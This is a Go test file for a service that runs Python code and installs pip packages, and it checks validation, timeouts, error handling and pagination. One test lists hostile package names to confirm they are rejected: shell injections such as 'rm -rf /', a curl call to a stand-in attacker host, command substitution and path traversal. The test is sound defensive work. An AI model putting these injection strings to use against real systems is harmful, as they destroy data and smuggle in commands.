package service_test

import (
	"context"
	"errors"
	"log/slog"
	"os"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sakif/pyrunner/internal/executor"
	"github.com/sakif/pyrunner/internal/model"
	"github.com/sakif/pyrunner/internal/repository"
	"github.com/sakif/pyrunner/internal/service"
)

// mockExecutor implements executor.Runner and executor.Installer without
// spawning anything.
type mockExecutor struct {
	capturedCode string
	capturedPkg  string
	executed     bool
	installed    bool

	res       *executor.Result
	err       error
	panicWith any
}

func (m *mockExecutor) Execute(ctx context.Context, req executor.Request) (*executor.Result, error) {
	m.executed = true
	m.capturedCode = req.Code
	if m.panicWith != nil {
		panic(m.panicWith)
	}
	return m.res, m.err
}

func (m *mockExecutor) Install(ctx context.Context, pkg string) (*executor.Result, error) {
	m.installed = true
	m.capturedPkg = pkg
	if m.panicWith != nil {
		panic(m.panicWith)
	}
	return m.res, m.err
}

// mockRepo captures history writes and list options.
type mockRepo struct {
	created  []model.Execution
	listOpts repository.ListOptions
	listErr  error
}

func (m *mockRepo) Create(ctx context.Context, ex *model.Execution) error {
	m.created = append(m.created, *ex)
	return nil
}

func (m *mockRepo) List(ctx context.Context, opts repository.ListOptions) ([]model.Execution, error) {
	m.listOpts = opts
	return []model.Execution{}, m.listErr
}

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stdout, &slog.HandlerOptions{Level: slog.LevelError}))
}

func newGate(exec *mockExecutor, repo repository.ExecutionRepository) *service.Gate {
	cfg := service.GateConfig{
		RunTimeout:     30 * time.Second,
		InstallTimeout: 120 * time.Second,
	}
	return service.NewGate(cfg, exec, exec, repo, testLogger())
}

func TestGateRun(t *testing.T) {
	t.Run("successful execution", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{
			Stdout:   "Hello, World!\n",
			ExitCode: 0,
			Duration: 80 * time.Millisecond,
		}}
		repo := &mockRepo{}

		res := newGate(exec, repo).Run(context.Background(), "print('Hello, World!')")

		assert.True(t, res.Success)
		assert.Equal(t, "Hello, World!\n", res.Output)
		assert.Empty(t, res.Errors)
		assert.Equal(t, "print('Hello, World!')", exec.capturedCode)

		require.Len(t, repo.created, 1)
		assert.Equal(t, model.KindRun, repo.created[0].Kind)
		assert.True(t, repo.created[0].Success)
	})

	t.Run("non-zero exit is a result, not a fault", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{
			Stdout:   "partial output\n",
			Stderr:   "Traceback (most recent call last):\nValueError: boom\n",
			ExitCode: 1,
		}}

		res := newGate(exec, &mockRepo{}).Run(context.Background(), "raise ValueError('boom')")

		assert.False(t, res.Success)
		assert.Equal(t, "partial output\n", res.Output)
		assert.Contains(t, res.Errors, "ValueError: boom")
	})

	t.Run("empty code never reaches the executor", func(t *testing.T) {
		exec := &mockExecutor{}
		repo := &mockRepo{}

		res := newGate(exec, repo).Run(context.Background(), "")

		assert.False(t, res.Success)
		assert.Equal(t, "No code provided", res.Errors)
		assert.False(t, exec.executed)
		assert.Empty(t, repo.created, "validation failures are not history")
	})

	t.Run("timeout names the deadline", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{TimedOut: true, ExitCode: -1, Duration: 30 * time.Second}}

		res := newGate(exec, &mockRepo{}).Run(context.Background(), "import time; time.sleep(60)")

		assert.False(t, res.Success)
		assert.Empty(t, res.Output)
		assert.Equal(t, "Execution timeout: Code took longer than 30 seconds to execute", res.Errors)
	})

	t.Run("spawn fault becomes a generic server error", func(t *testing.T) {
		exec := &mockExecutor{err: errors.New("starting python3: executable file not found")}

		res := newGate(exec, &mockRepo{}).Run(context.Background(), "print(1)")

		assert.False(t, res.Success)
		assert.Empty(t, res.Output)
		assert.Equal(t, "Server error: execution failed unexpectedly", res.Errors)
	})

	t.Run("panic below the gate is folded into a result", func(t *testing.T) {
		exec := &mockExecutor{panicWith: "something deeply wrong"}

		res := newGate(exec, &mockRepo{}).Run(context.Background(), "print(1)")

		require.NotNil(t, res)
		assert.False(t, res.Success)
		assert.Equal(t, "Server error: execution failed unexpectedly", res.Errors)
	})
}

func TestGateInstall(t *testing.T) {
	t.Run("valid package name reaches pip verbatim", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{
			Stdout:   "Successfully installed requests-2.32.0\n",
			ExitCode: 0,
		}}

		res := newGate(exec, &mockRepo{}).Install(context.Background(), "  requests  ")

		assert.True(t, res.Success)
		assert.Equal(t, "requests", exec.capturedPkg, "name is trimmed, then passed as-is")
	})

	t.Run("extras syntax is allowed", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{ExitCode: 0}}

		newGate(exec, &mockRepo{}).Install(context.Background(), "uvicorn[standard]")

		assert.True(t, exec.installed)
		assert.Equal(t, "uvicorn[standard]", exec.capturedPkg)
	})

	t.Run("injection attempts never spawn a process", func(t *testing.T) {
		hostile := []string{
			"requests; rm -rf /",
			"requests && curl evil.example",
			"$(whoami)",
			"../../etc/passwd",
			"numpy scipy",
			"péquage",
			"pkg\nother",
			"pkg|tee",
		}
		for _, name := range hostile {
			exec := &mockExecutor{}
			res := newGate(exec, &mockRepo{}).Install(context.Background(), name)

			assert.False(t, res.Success, "package %q must be rejected", name)
			assert.Equal(t,
				"Invalid package name. Only alphanumeric characters, hyphens, underscores, dots, and brackets are allowed.",
				res.Errors)
			assert.False(t, exec.installed, "package %q must not reach the installer", name)
		}
	})

	t.Run("empty package name", func(t *testing.T) {
		exec := &mockExecutor{}

		res := newGate(exec, &mockRepo{}).Install(context.Background(), "   ")

		assert.False(t, res.Success)
		assert.Equal(t, "No package name provided", res.Errors)
		assert.False(t, exec.installed)
	})

	t.Run("timeout names the install deadline", func(t *testing.T) {
		exec := &mockExecutor{res: &executor.Result{TimedOut: true, ExitCode: -1}}

		res := newGate(exec, &mockRepo{}).Install(context.Background(), "tensorflow")

		assert.False(t, res.Success)
		assert.Equal(t, "Installation timeout: Package installation took longer than 120 seconds", res.Errors)
	})
}

func TestGateHistory(t *testing.T) {
	t.Run("clamps pagination", func(t *testing.T) {
		repo := &mockRepo{}
		g := newGate(&mockExecutor{}, repo)

		_, err := g.History(context.Background(), 0, -3)
		require.NoError(t, err)
		assert.Equal(t, service.DefaultListLimit, repo.listOpts.Limit)
		assert.Equal(t, 0, repo.listOpts.Offset)

		_, err = g.History(context.Background(), 9999, 10)
		require.NoError(t, err)
		assert.Equal(t, service.MaxListLimit, repo.listOpts.Limit)
		assert.Equal(t, 10, repo.listOpts.Offset)
	})

	t.Run("nil repository yields an empty list", func(t *testing.T) {
		g := newGate(&mockExecutor{}, nil)

		got, err := g.History(context.Background(), 10, 0)
		require.NoError(t, err)
		assert.Empty(t, got)
	})
}
